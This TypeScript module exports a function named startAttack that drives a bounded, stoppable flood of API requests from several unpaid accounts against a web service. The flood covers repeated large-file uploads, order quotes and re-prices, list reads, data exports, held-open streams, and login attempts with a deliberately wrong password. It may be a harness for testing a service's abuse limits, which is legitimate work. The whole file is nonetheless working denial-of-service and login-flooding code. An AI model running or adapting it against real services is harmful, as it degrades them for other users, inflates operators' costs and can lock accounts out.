/** The load from accounts that never paid: limited per account, and stopped on request. */
import { setTimeout as pause } from 'node:timers/promises';
import type { Account } from './client.ts';

/** Limits per account, with pauses in ms. */
const bounds = { uploads: 4, streams: 4, pace: { quotes: 250, reads: 100, exports: 5000, signIns: 500 } };

export interface Load {
  /** Ends the load and returns a summary of what was sent. */
  stop(): Promise<string>;
}

export function startAttack(
  accounts: Omit<Account, 'token'>[],
  { file, mapping }: { file: Blob; mapping: unknown },
): Load {
  const stopping = new AbortController();
  const { signal } = stopping;
  const counts = new Map<string, { sent: number; refused: number }>();
  const count = (what: string, accepted: boolean) => {
    const { sent, refused } = counts.get(what) ?? { sent: 0, refused: 0 };
    counts.set(what, { sent: sent + 1, refused: refused + (accepted ? 0 : 1) });
  };

  /** Repeats a call until the load ends. */
  async function repeat(what: string, everyMs: number, once: () => Promise<boolean>): Promise<void> {
    while (!signal.aborted) {
      try {
        count(what, await once());
      } catch (error) {
        if (signal.aborted) return;
        count(what, false);
        if (!(error instanceof TypeError)) throw error;
      }
      await pause(everyMs, undefined, { signal }).catch(() => {});
    }
  }

  /** Uploads and quotes large files, then re-quotes them repeatedly. */
  async function quotes({ call }: Pick<Account, 'call'>): Promise<void> {
    const orders: string[] = [];
    let uploads = 0;
    let upload: string | undefined;
    const next = async () => {
      if (upload === undefined && uploads < bounds.uploads) {
        uploads += 1;
        const form = new FormData();
        form.append('file', file, 'large.csv');
        const { status, body } = await call('POST', '/file-upload', { body: form, signal });
        count('uploads', status === 200);
        if (status === 200) upload = (body as { data: { id: string } }).data.id;
      }
      if (upload !== undefined) {
        const body = { upload_id: upload, mapping };
        const answer = await call('POST', '/order-quote', { body, signal });
        if (answer.status === 200) {
          orders.push((answer.body as { data: { id: string } }).data.id);
          upload = undefined;
        }
        return answer.status === 200;
      }
      const id = orders[Math.floor(Math.random() * orders.length)];
      return id !== undefined && (await call('POST', `/order-reprice/${id}`, { signal })).status === 200;
    };
    await repeat('quotes', bounds.pace.quotes, next);
  }

  const works = accounts.flatMap((account) => {
    const { id, email, call } = account;
    const ok = async (answer: Promise<{ status: number }>) => (await answer).status === 200;
    const lists = [`/all-leads/${id}?value=a&per_page=100`, '/order-list?per_page=100', `/lead-orders/${id}`];
    let turn = 0;
    return [
      quotes(account),
      repeat('lists', bounds.pace.reads, () =>
        ok(call('GET', lists[turn++ % lists.length] ?? '', { signal })),
      ),
      repeat('exports', bounds.pace.exports, () => ok(call('POST', '/data-export', { signal }))),
      repeat('sign-ins', bounds.pace.signIns, () =>
        ok(call('POST', '/login', { body: { email, password: 'a wrong password' }, signal })),
      ),
      ...Array.from({ length: bounds.streams }, () =>
        repeat('streams', bounds.pace.signIns, () => call.stream(signal)),
      ),
    ];
  });

  return {
    async stop() {
      stopping.abort();
      await Promise.allSettled(works);
      return [...counts].map(([what, { sent, refused }]) => `${sent} ${what} (${refused})`).join(', ');
    },
  };
}
